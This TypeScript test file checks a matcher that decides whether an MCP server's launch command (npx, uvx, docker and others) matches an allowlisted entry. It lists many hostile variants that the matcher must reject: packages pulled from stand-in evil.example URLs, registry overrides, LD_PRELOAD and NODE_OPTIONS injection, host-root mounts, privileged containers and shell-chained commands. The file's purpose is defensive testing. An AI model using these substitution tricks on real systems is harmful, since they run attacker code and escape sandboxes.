import { homedir } from 'node:os';
import { describe, expect, it } from 'vitest';
import { isAbout } from '../../src/launches/match-server.js';
import { findLaunchDifference } from '../../src/launches/launch-difference.js';
import { entryOf, launched, lineOf, merged } from './entries.js';

const GITHUB = '@modelcontextprotocol/server-github';
const github = entryOf({ command: 'npx', args: ['-y', `${GITHUB}@*`] });
const DIGEST = `sha256:${'0123456789abcdef'.repeat(4)}`;

const VERSION = 'what it names is no version of its package';
const NO_VERSION = 'it names no version of its package';
const PROGRAM = 'it is started by another program';
const PACKAGE = 'it runs another package';
const OPTIONS = 'it has other options, by which other code may run';
const UNCLEAR = 'it is unclear which package it runs';

// Threat 8
describe('a server that a base names by `npx -y …@*`', () => {
  it.each([
    `npx -y ${GITHUB}@2025.4.8`,
    `npx --yes ${GITHUB}@2025.4.8`,
    `npx ${GITHUB}@2025.4.8`,
    `npx -yq ${GITHUB}@2025.4.8`,
    `npx -q -y ${GITHUB}@2025.4.8`,
    `npx -y -- ${GITHUB}@2025.4.8`,
    `npx -y ${GITHUB}@2025.4.8-rc.1`,
    `npx -y --ignore-scripts ${GITHUB}@2025.4.8`,
  ])('is %s, however its idle options are written', (line) => {
    expect(findLaunchDifference(github, launched(line))).toBeUndefined();
  });

  it.each([
    // what stands for a version is none
    [`npx -y ${GITHUB}`, NO_VERSION],
    [`npx -y ${GITHUB}@`, VERSION],
    [`npx -y ${GITHUB}@*`, VERSION],
    [`npx -y ${GITHUB}@latest`, VERSION],
    [`npx -y ${GITHUB}@^1.0.0`, VERSION],
    [`npx -y ${GITHUB}@1`, VERSION],
    [`npx -y ${GITHUB}@1.x`, VERSION],
    [`npx -y ${GITHUB}@file:/tmp/evil`, VERSION],
    [`npx -y ${GITHUB}@/tmp/evil`, VERSION],
    [`npx -y ${GITHUB}@./evil`, VERSION],
    [`npx -y ${GITHUB}@~/evil`, VERSION],
    [`npx -y ${GITHUB}@C:\\evil`, VERSION],
    [`npx -y ${GITHUB}@1.0.0-evil.tgz`, VERSION],
    [`npx -y ${GITHUB}@1.0.0-evil.tar.gz`, VERSION],
    [`npx -y ${GITHUB}@npm:evil@1.0.0`, VERSION],
    [`npx -y ${GITHUB}@git+https://evil.example/x.git`, VERSION],
    [`npx -y ${GITHUB}@https://evil.example/x.tgz`, VERSION],
    [`npx -y ${GITHUB}@github:evil/x`, VERSION],
    [`npx -y ${GITHUB}@evil/x`, VERSION],
    [`npx -y ${GITHUB}@workspace:*`, VERSION],
    [`npx -y ${GITHUB}@catalog:`, VERSION],
    // another package, or another program
    [`npx -y ${GITHUB}-evil@1.0.0`, PACKAGE],
    [`npx -y @ModelContextProtocol/server-github@1.0.0`, PACKAGE],
    [`npx -y evil@npm:${GITHUB}@1.0.0`, PACKAGE],
    [`npx -y evil ${GITHUB}@1.0.0`, PACKAGE],
    [`npx -y --package=${GITHUB}@1.0.0 sh`, PACKAGE],
    [`npx -y -p ${GITHUB}@1.0.0 node`, PACKAGE],
    [`npx -y -p evil ${GITHUB}@1.0.0`, PACKAGE],
    [`npm exec -y ${GITHUB}@1.0.0`, PROGRAM],
    [`bunx ${GITHUB}@1.0.0`, PROGRAM],
    [`pnpm dlx ${GITHUB}@1.0.0`, PROGRAM],
    [`/evil/npx -y ${GITHUB}@1.0.0`, PROGRAM],
    [`./npx -y ${GITHUB}@1.0.0`, PROGRAM],
    [`NPX -y ${GITHUB}@1.0.0`, PROGRAM],
    [`npx.cmd -y ${GITHUB}@1.0.0`, PROGRAM],
    [`env A=b npx -y ${GITHUB}@1.0.0`, PROGRAM],
    [`env PATH=/evil npx -y ${GITHUB}@1.0.0`, PROGRAM],
    [`cmd /c npx -y ${GITHUB}@1.0.0`, PROGRAM],
    [`node evil.js npx -y ${GITHUB}@1.0.0`, PROGRAM],
    [['sh', '-c', `npx -y ${GITHUB}@1.0.0; evil`], 'it is a script of a shell'],
    // options that load code, in each spelling
    [`npx --registry=https://evil.example -y ${GITHUB}@1.0.0`, OPTIONS],
    [`npx --registry https://evil.example -y ${GITHUB}@1.0.0`, OPTIONS],
    [`npx -y --prefix /evil ${GITHUB}@1.0.0`, OPTIONS],
    [`npx -y --cache=/evil ${GITHUB}@1.0.0`, OPTIONS],
    [`npx -y --userconfig /evil/.npmrc ${GITHUB}@1.0.0`, OPTIONS],
    [`npx -y --node-options=--require=/evil.js ${GITHUB}@1.0.0`, OPTIONS],
    [`npx -y --@modelcontextprotocol:registry=https://evil.example ${GITHUB}@1.0.0`, OPTIONS],
    [`npx -y -c evil ${GITHUB}@1.0.0`, OPTIONS],
    [`npx --yes=false ${GITHUB}@1.0.0`, OPTIONS],
    [`npx -y --unheard-of ${GITHUB}@1.0.0`, UNCLEAR],
    [`npx -y --unheard-of evil ${GITHUB}@1.0.0`, UNCLEAR],
    ['npx -y', UNCLEAR],
    [`npx -y ${GITHUB}@1.0.0 --stdio`, 'its arguments are others'],
    [`npx ${GITHUB}@1.0.0 -y`, 'its arguments are others'],
  ] as const)('is not %j: %s', (line, why) => {
    expect(findLaunchDifference(github, launched(line))).toBe(why);
  });

  it.each([
    'HOME',
    'home',
    'USERPROFILE',
    'APPDATA',
    'XDG_CONFIG_HOME',
    'XDG_CACHE_HOME',
    'TMPDIR',
    'npm_config_registry',
    'NPM_CONFIG_USERCONFIG',
    'NODE_OPTIONS',
    'NODE_PATH',
    'PATH',
    'Path',
    'LD_PRELOAD',
    'DYLD_INSERT_LIBRARIES',
    'YARN_RC_FILENAME',
    'PNPM_HOME',
    'BUN_INSTALL',
    'DENO_DIR',
    'PIP_INDEX_URL',
    'UV_INDEX_URL',
    'PYTHONPATH',
    'DOCKER_HOST',
    'CONTAINER_HOST',
    'HTTPS_PROXY',
    'SSL_CERT_FILE',
    'NODE_EXTRA_CA_CERTS',
    'VOLTA_HOME',
    'PREFIX',
    'DESTDIR',
  ])('is not one with %s in its environment', (name) => {
    const server = launched(`npx -y ${GITHUB}@1.0.0`, { env: { [name]: 'x' } });
    expect(findLaunchDifference(github, server)).toBe(`its variable ${name} may decide what runs`);
  });

  it('may have variables for the program, and values of its client', () => {
    const env = { GITHUB_TOKEN: [{ client: 'GITHUB_TOKEN', fallback: undefined }], LOG_LEVEL: 'debug' };
    expect(isAbout(github, launched(`npx -y ${GITHUB}@1.0.0`, { env }))).toBe(true);
  });

  it('is not one with a working folder, which may hold a package of that name', () => {
    const server = launched(`npx -y ${GITHUB}@1.0.0`, { cwd: '/proj' });
    expect(findLaunchDifference(github, server)).toBe('it says its working folder (cwd)');
  });

  it('does not start in the folder of its client, which may hold a package of that name', () => {
    const base = { servers: { github: { command: 'npx', args: ['-y', `${GITHUB}@*`] } } };
    expect(merged({ ...lineOf(`npx -y ${GITHUB}@1.0.0`) }, base)).toMatchObject({ cwd: homedir() });
    expect(merged({ ...lineOf(`npx -y ${GITHUB}`) }, base)).toMatchObject({ cwd: null });
    const free = { servers: { github: { ...base.servers.github, cwd: '*' } } };
    expect(merged({ ...lineOf(`npx -y ${GITHUB}@1.0.0`) }, free)).toMatchObject({ cwd: null });
  });
});

describe('what a base names beside a package', () => {
  it.each([
    // [entry, exact, not exact]
    ['npx -y @x/a@1.2.*', ['npx @x/a@1.2.3'], ['npx @x/a@1.3.0', 'npx @x/a@1.2.x', 'npx @x/a']],
    ['npx @x/a', ['npx -y @x/a'], ['npx @x/a@1.0.0', 'npx @x/a@latest']],
    ['npx @x/a@latest', ['npx -y @x/a@latest'], ['npx @x/a@next', 'npx @x/a@1.0.0']],
    ['npx @x/a@^1.0.0', ['npx @x/a@^1.0.0'], ['npx @x/a@^1.0.1', 'npx @x/a@1.0.0']],
    ['npx @x/*@*', ['npx @x/a@1.0.0'], ['npx @y/a@1.0.0', 'npx @x/a/../../evil@1.0.0', 'npx @x/a@file:x']],
    ['npx *@^1.0.0', [], ['npx a@1.0.0', 'npx a@^1.0.0']],
    ['npx *@*', ['npx a@1.0.0'], ['npx ./a@1.0.0', 'npx evil/a@1.0.0', 'npx a.tgz@1.0.0', 'npx https://x@1.0.0']],
    ['npx ^@x/a@1[.]', ['npx @x/a@1.0.0'], ['npx @x/a@1.0.0/../evil', 'npx @x/a@2.0.0', 'npx @x/a@1.x']],
    [
      'npx --registry=https://npm.corp -y a@*',
      ['npx -y --registry https://npm.corp a@1.0.0'],
      [
        'npx a@1.0.0',
        'npx --registry=https://evil a@1.0.0',
        'npx --registry=https://npm.corp --registry=https://evil a@1.0.0',
      ],
    ],
    ['npx --ignore-scripts a@*', ['npx --ignore-scripts a@1.0.0'], ['npx a@1.0.0']],
    [
      'npx --package=a@* run',
      ['npx -p a@1.0.0 run', 'npx --package a@1.0.0 run'],
      ['npx a@1.0.0', 'npx -p a@1.0.0 sh', 'npx -p a@1.0.0 -p evil@1.0.0 run', 'npx -p a@file:x run'],
    ],
    [
      'npm exec -y -- a@* x',
      ['npm exec a@1.0.0 x', 'npm x -y a@1.0.0 -- x'],
      [
        'npm exec a@1.0.0 --registry=https://evil x',
        'npm exec a@1.0.0 x --prefix=/evil',
        'npm --prefix /evil exec a@1.0.0 x',
        'npx a@1.0.0 x',
      ],
    ],
    ['bunx a@*', ['bunx a@1.0.0'], ['bunx --bun a@1.0.0', 'bun x a@1.0.0', 'bunx a@github:evil/a']],
    ['bun x a@*', ['bun x a@1.0.0'], ['bun --preload ./evil.js x a@1.0.0', 'bun run a@1.0.0']],
    [
      'pnpm dlx a@*',
      ['pnpm -s dlx a@1.0.0', 'pnpm dlx --silent a@1.0.0'],
      ['pnpm --dir /evil dlx a@1.0.0', 'pnpm dlx --shell-mode a@1.0.0', 'pnpm exec a@1.0.0'],
    ],
    ['pnpx a@*', ['pnpx a@1.0.0'], ['pnpx --package=evil a@1.0.0']],
    ['yarn dlx -q a@*', ['yarn dlx a@1.0.0'], ['yarn --cwd /evil dlx a@1.0.0', 'yarn dlx -p evil a@1.0.0']],
    [
      'deno run -A npm:a@*',
      ['deno run -A npm:a@1.0.0', 'deno run --quiet -A npm:a@1.0.0'],
      [
        'deno run npm:a@1.0.0',
        'deno run -A --import-map=/evil npm:a@1.0.0',
        'deno run -A a@1.0.0',
        'deno run -A npm:a@1.0.0/evil',
        'deno run -A https://a@1.0.0',
      ],
    ],
    [
      'uvx mcp-server-git@*',
      ['uvx mcp-server-git@1.2', 'uvx -q mcp_server.git==2026.1.14', 'uvx --no-config MCP-server-git@1.0rc1'],
      [
        'uvx mcp-server-git',
        'uvx mcp-server-git@latest',
        'uvx mcp-server-git>=1.0',
        'uvx mcp-server-git==1.*',
        'uvx mcp-server-git@git+https://evil',
        'uvx --from evil mcp-server-git@1.0',
        'uvx --with evil==1.0 mcp-server-git@1.0',
        'uvx --index-url https://evil mcp-server-git@1.0',
        'uvx -i https://evil mcp-server-git@1.0',
        'uvx --directory /evil mcp-server-git@1.0',
        'uvx mcp-server-git[evil]==1.0',
        'uv tool run mcp-server-git@1.0',
      ],
    ],
    [
      'uvx --from mcp-git==* serve',
      ['uvx --from=mcp_git==1.0 serve'],
      ['uvx --from mcp-git==1.0 sh', 'uvx --from ./mcp-git serve', 'uvx --from mcp-git==1.0,evil serve'],
    ],
    [
      'uv tool run mcp-git==*',
      ['uv -q tool run mcp-git==1.0'],
      ['uv --project /evil tool run mcp-git==1.0', 'uv run mcp-git==1.0'],
    ],
    [
      'pipx run mcp-git==*',
      ['pipx run --quiet mcp-git==1.0'],
      [
        'pipx run --path mcp-git==1.0',
        'pipx run --spec evil mcp-git==1.0',
        'pipx run --pip-args=--index-url=https://evil mcp-git==1.0',
        'pipx run mcp-git.py',
      ],
    ],
    [
      'docker run -i --rm mcp/fetch:*',
      [
        'docker run --rm -i mcp/fetch:1.2',
        'docker run -it --rm -e TOKEN --name x mcp/fetch:v1.2.3',
        'docker container run --rm -i --read-only --network none mcp/fetch:1.2',
        `docker run mcp/fetch:1@${DIGEST}`,
      ],
      [
        'docker run mcp/fetch',
        'docker run mcp/fetch:latest',
        'docker run evil/mcp/fetch:1',
        'docker run -v /:/host mcp/fetch:1',
        'docker run --mount=type=bind,src=/,dst=/x mcp/fetch:1',
        'docker run --entrypoint sh mcp/fetch:1',
        'docker run --privileged mcp/fetch:1',
        'docker run -e LD_PRELOAD=/x mcp/fetch:1',
        'docker run -eNODE_OPTIONS=x mcp/fetch:1',
        'docker run --env-file x mcp/fetch:1',
        'docker -H tcp://evil run mcp/fetch:1',
        'docker --context=evil run mcp/fetch:1',
        'docker run --network=host mcp/fetch:1',
        'docker run --network none --network host mcp/fetch:1',
        'docker run mcp/fetch:1 sh',
        'docker exec mcp/fetch:1',
        'podman run mcp/fetch:1',
        'docker run docker.io/mcp/fetch:1',
        'docker run --unheard-of mcp/fetch:1',
      ],
    ],
    [
      `docker run mcp/fetch@${DIGEST}`,
      [`docker run -i mcp/fetch@${DIGEST}`],
      [
        'docker run mcp/fetch:1',
        `docker run mcp/fetch:evil@${DIGEST}`,
        `docker run mcp/fetch@${DIGEST.replace('0', '1')}`,
      ],
    ],
    [
      'docker run -v /data:/data mcp/fetch:1',
      ['docker run --rm -v /data:/data mcp/fetch:1'],
      ['docker run mcp/fetch:1', 'docker run -v /:/data mcp/fetch:1', 'docker run -v /data:/data -v /:/x mcp/fetch:1'],
    ],
    ['docker run --network=none mcp/fetch:1', ['docker run --network none mcp/fetch:1'], ['docker run mcp/fetch:1']],
    ['cmd /c npx -y a@*', ['cmd /c npx a@1.0.0'], ['cmd /c npx a@1.0.0 & evil', 'npx a@1.0.0']],
    [
      'node /usr/lib/node_modules/npm/bin/npx-cli.js -y a@*',
      ['node /usr/lib/node_modules/npm/bin/npx-cli.js a@1.0.0'],
      [
        'node /evil/npx-cli.js a@1.0.0',
        'node /usr/lib/node_modules/npm/bin/npx-cli.js a@file:x',
        'node -r /evil.js /usr/lib/node_modules/npm/bin/npx-cli.js a@1.0.0',
      ],
    ],
    ['* -y a@*', ['npx -y a@1.0.0'], ['npx -y a@file:x', 'npx -y a@latest']],
    [
      '/opt/files --root *',
      ['/opt/files --root /data'],
      ['/opt/files', '/opt/files --root', '/evil/files --root /data'],
    ],
  ] as const)('%s', (written, exact, others) => {
    const entry = entryOf(lineOf(written));
    expect(exact.filter((line) => !isAbout(entry, launched(line)))).toEqual([]);
    expect(others.filter((line) => isAbout(entry, launched(line)))).toEqual([]);
  });

  it('may be variables, which must be set so', () => {
    const entry = entryOf({ ...lineOf('uvx a@*'), env: { UV_INDEX_URL: 'https://pypi.corp/*' } });
    const withEnv = (env: Record<string, string>): boolean => isAbout(entry, launched('uvx a@1.0', { env }));
    expect(withEnv({ UV_INDEX_URL: 'https://pypi.corp/simple', TOKEN: 'x' })).toBe(true);
    expect(withEnv({ UV_INDEX_URL: 'https://evil.example' })).toBe(false);
    expect(withEnv({ UV_INDEX_URL: 'https://pypi.corp/simple', UV_EXTRA_INDEX_URL: 'https://evil' })).toBe(false);
    expect(withEnv({})).toBe(false);
  });

  it('may be a folder', () => {
    const entry = entryOf({ ...lineOf('npx a@*'), cwd: '/srv/*' });
    const inFolder = (cwd: string | null): boolean => isAbout(entry, launched('npx a@1.0.0', { cwd }));
    expect(inFolder('/srv/tools')).toBe(true);
    expect(inFolder('/srv/../evil')).toBe(false);
    expect(inFolder('/evil')).toBe(false);
    expect(inFolder(null)).toBe(false);
  });
});

it('a word for word entry is exact also where nobody can tell what it runs', () => {
  const entry = entryOf({ command: 'sh', args: ['-c', 'exec files --all; true'] });
  expect(isAbout(entry, launched(['sh', '-c', 'exec files --all; true']))).toBe(true);
  expect(isAbout(entryOf({ command: 'sh', args: ['-c', '*'] }), launched(['sh', '-c', 'x; y']))).toBe(false);
});
